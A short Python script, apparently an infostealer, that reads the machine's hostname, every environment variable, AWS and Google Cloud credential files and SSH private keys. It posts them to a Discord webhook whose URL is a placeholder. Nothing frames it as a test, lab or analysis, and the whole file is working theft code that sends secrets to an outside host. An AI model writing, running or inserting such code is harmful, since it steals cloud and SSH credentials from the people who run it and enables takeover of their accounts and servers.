import glob
import json
import os
import platform
import urllib.request

HOOK = "https://discord.com/api/webhooks/000000000000000000/EXAMPLE-not-a-real-webhook-EXAMPLE-not-a-real-webhook-EXAMPLE"
PLACES = ["~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json", "~/.ssh/id_*"]


def collect():
    loot = {"host": platform.node(), "env": dict(os.environ), "files": {}}
    for pattern in PLACES:
        for path in glob.glob(os.path.expanduser(pattern)):
            try:
                with open(path) as file:
                    loot["files"][path] = file.read()
            except OSError:
                pass
    return loot


body = json.dumps({"content": json.dumps(collect())[:1900]}).encode()
request = urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"})
urllib.request.urlopen(request, timeout=10)
